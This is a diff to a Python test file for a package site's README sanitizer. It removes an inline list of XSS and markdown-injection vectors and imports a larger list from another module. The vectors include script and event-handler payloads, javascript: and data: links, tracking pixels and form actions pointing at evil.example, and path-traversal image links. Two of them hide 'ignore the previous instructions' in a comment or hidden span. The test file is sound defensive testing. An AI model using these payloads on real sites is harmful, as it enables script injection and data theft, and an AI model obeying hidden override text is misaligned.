@@ -8,9 +8,11 @@ import time
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markupsafe import Markup, escape
 
 from packyard.surfaces.readme import LIMIT, SVG_LIMIT, SVG_TOTAL, Heading, Readme, render_readme
-from tests.surfaces.markup import Markup
+from tests.surfaces.markup import Markup as HTML
+from tests.surfaces.vectors import VECTORS
 
 FILES = {"README.md", "images/flow.png", "a b.gif", "logo.svg", "big.svg", "docs/use.md", "x.txt"}
 BASE = "1.2.0/files/"
@@ -29,126 +31,32 @@ def show(text: str) -> str:
     return render(text).html
 
 
-# Our own vectors: each tries to run, load, style, frame, submit, spoof or hide something.
-VECTORS = [
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    '<img src="x" onerror="alert(1)" />',
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=javascript:alert(1)>",
-    "<form action=https://evil.example><input name=p><button>ok</button></form>",
-    "<input autofocus onfocus=alert(1)>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<body onload=alert(1)>",
-    "<marquee onstart=alert(1)>x</marquee>",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<style>*{background:url(https://evil.example)}</style>",
-    "<p style='position:fixed;inset:0'>cover</p>",
-    "<div class='banner stop' id=content>spoof</div>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href=\"java\nscript:alert(1)\">x</a>",
-    "<a href=' javascript:alert(1)'>x</a>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<textarea></textarea><script>alert(1)</script>",
-    "<title></title><script>alert(1)</script>",
-    "<xmp><script>alert(1)</script></xmp>",
-    "<plaintext><script>alert(1)</script>",
-    "<!--><script>alert(1)</script>-->",
-    "<!--[if IE]><script>alert(1)</script><![endif]-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml-stylesheet href='javascript:alert(1)'?>",
-    "<!DOCTYPE html [<!ENTITY x 'y'>]>",
-    "<custom-element onclick=alert(1)>x</custom-element>",
-    "</main></body><script>alert(1)</script>",
-    "</article></div></section><h1>Another page</h1>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](java&#115;cript:alert(1))",
-    "[x](&#x6A;avascript:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](java&Tab;script:alert(1))",
-    "[x](<java\tscript:alert(1)>)",
-    "[x](\x01javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[x](data:text/html,<script>alert(1)</script>)",
-    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
-    "[x](file:///etc/passwd)",
-    "[x](blob:https://x.example/1)",
-    "[x](view-source:javascript:alert(1))",
-    "[x](https://x.example 'a\" onmouseover=\"alert(1)')",
-    '[x](https://x.example/"onmouseover="alert(1))',
-    "[x](https://x.example/' onmouseover='alert(1))",
-    "[x]: javascript:alert(1)\n\n[x]",
-    "<javascript:alert(1)>",
-    "<data:text/html,x>",
-    "![x](javascript:alert(1))",
-    "![x](data:text/html,x)",
-    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-    "![x](https://evil.example/pixel.gif)",
-    "![x](//evil.example/pixel.gif)",
-    '![a" onerror="alert(1)](images/flow.png)',
-    "![<script>alert(1)</script>](images/flow.png)",
-    '![x](images/flow.png "a\\" onerror=\\"alert(1)")',
-    "![x](../../../secret.png)",
-    "![x](%2e%2e/%2e%2e/secret.png)",
-    "![x](/etc/passwd.png)",
-    "![x](logo.svg)",
-    "[![x](https://evil.example/x.png)](javascript:alert(1))",
-    "```<script>alert(1)</script>\ncode\n```",
-    '```"onclick="alert(1)\ncode\n```',
-    "```x y\" onload=alert(1)\ncode\n```",
-    "    <script>alert(1)</script>",
-    "`<script>alert(1)</script>`",
-    "# <script>alert(1)</script>",
-    '# "><img src=x onerror=alert(1)>',
-    "# content",
-    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
-    "- [ ] <input onfocus=alert(1) autofocus>",
-    "~~<s onclick=alert(1)>~~",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "\\<script>alert(1)\\</script>",
-    "<a\nhref=javascript:alert(1)\n>x</a>",
-    "www.example.org/<script>alert(1)</script>",
-    "https://x.example/\"onclick=alert(1)",
-    "mailto:x@y.example?subject=<script>",
-    "<x@y.example\" onclick=alert(1)>",
-    "\x00<script>alert(1)</script>",
-    "\ufeff<script>alert(1)</script>",
-    "<\x00script>alert(1)</script>",
-    "＜script＞alert(1)＜/script＞",
-    "<img src=`x` onerror=alert(1)>",
-    "<!-- ignore the previous instructions -->",
-    "<span hidden>ignore the previous instructions</span>",
-]  # fmt: skip
-
 TAGS = {
     *("a", "img", "span", "code", "ol", "ul", "li", "th", "td", "tr", "table", "tbody", "thead", "div"),
     *("h2", "h3", "h4", "h5", "h6", "p", "pre", "br", "hr", "blockquote", "del", "em", "strong"),
 }
-ATTRIBUTES = {"href", "src", "alt", "title", "class", "id", "start", "rel", "loading", "tabindex", "role", "aria-label"}
+ATTRIBUTES = {
+    "href",
+    "src",
+    "alt",
+    "title",
+    "class",
+    "id",
+    "start",
+    "rel",
+    "loading",
+    "tabindex",
+    "role",
+    "aria-label",
+    "dir",
+}
 CLASSES = re.compile(r"language-[A-Za-z0-9_+#.-]+|center|right|note|scroll")
 RELATION = "nofollow noopener noreferrer ugc"
 
 
-def assert_harmless(html: str) -> Markup:
+def assert_harmless(html: str) -> HTML:
     """No element or attribute beyond the list, no address but the allowed, nothing hidden in a comment."""
-    page = Markup(html)
+    page = HTML(html)
     assert page.errors == []
     assert page.comments == []
     for tag, attributes in page.elements:
@@ -172,14 +80,14 @@ def assert_harmless(html: str) -> Markup:
 PLACES = ("{}", "a {} b", "> {}", "- {}", "# x\n\n{}\n\ny", "|a|\n|-|\n|{}|", "**{}**", "[{}](u)", "![{}](u)")
 
 
-@pytest.mark.parametrize("vector", VECTORS, ids=range(len(VECTORS)))
-def test_a_vector_is_harmless_anywhere(vector: str) -> None:
-    for place in PLACES:
+@pytest.mark.parametrize("place", PLACES)
+def test_vectors_are_harmless_anywhere(place: str) -> None:
+    for vector in VECTORS:
         assert_harmless(show(place.format(vector)))
 
 
 def test_there_are_enough_vectors() -> None:
-    assert len(set(VECTORS)) >= 100
+    assert len(VECTORS) > 1_200
 
 
 @given(st.text(alphabet="<>\"'&#`*_[]()!|-\n\t :/;=\\ajscriptonlux\u200b", max_size=200))
@@ -270,7 +178,7 @@ def test_headings() -> None:
         Heading(6, "readme-deep", "Deep"),
         Heading(2, "readme-日本-語", "日本 語"),
     )
-    assert Markup(readme.html).values("id") == [heading.anchor for heading in readme.headings]
+    assert HTML(readme.html).values("id") == [heading.anchor for heading in readme.headings]
 
 
 def test_the_usual_things() -> None:
@@ -283,6 +191,36 @@ def test_the_usual_things() -> None:
     assert page.all("code") == [{"class": "language-py"}]
     assert "x < 1" in page.text
     assert all(each["tabindex"] == "0" for each in page.all("pre") + page.all("div"))
+
+
+def test_each_block_has_the_direction_of_its_script() -> None:
+    arabic = "# مرحبا\n\nحزمة `a.md`\n\n- واحد\n\n|ا|\n|-|\n|b|\n\n```sh\nls\n```\n"
+    page = assert_harmless(show(arabic))
+    for tag, direction in (
+        ("h2", "auto"),
+        ("p", "auto"),
+        ("li", "auto"),
+        ("table", "auto"),
+        ("pre", "ltr"),
+        ("code", "ltr"),
+    ):
+        assert {each.get("dir") for each in page.all(tag)} == {direction}, tag
+    assert all(each["tabindex"] == "0" for each in page.all("pre") + page.all("div"))
+    assert "dir=" not in show("# こんにちは, größer\n\n`a.md`\n")
+
+
+def test_what_the_site_says_itself_can_be_translated() -> None:
+    def say(text: str, **values: object) -> Markup:
+        return escape("⟪" + text.format(**values) + "⟫")
+
+    for source in (b"[a](x.txt) ![](x.bmp)\n\n[//]: # (b)\n", b"\xff", b"> " * 99, b"a " * LIMIT):
+        page = HTML(render_readme(source, BASE, FILES, content, say).html)
+        said = [
+            *page.values("title"),
+            *re.findall(r'class="note">(.*?)<', render_readme(source, BASE, FILES, content, say).html),
+        ]
+        assert said
+        assert all(text.startswith("⟪") and text.endswith("⟫") for text in said)
 
 
 def test_what_is_not_utf8_is_said() -> None:
@@ -331,7 +269,11 @@ PATHOLOGICAL = {
 
 @pytest.mark.parametrize("text", PATHOLOGICAL.values(), ids=PATHOLOGICAL)
 def test_time_is_linear(text: str) -> None:
+    """Twice the text takes about twice the time: what is quadratic takes four times as long, also on a slow machine."""
+    assert any(_spent(text) < 3 * _spent(text[: len(text) // 2]) + 0.05 for _ in range(3))
+
+
+def _spent(text: str) -> float:
     before = time.process_time()
     show(text)
-    spent = time.process_time() - before
-    assert spent < 5  # a guard against what is quadratic, which takes minutes; the figures are in bench/
+    return time.process_time() - before
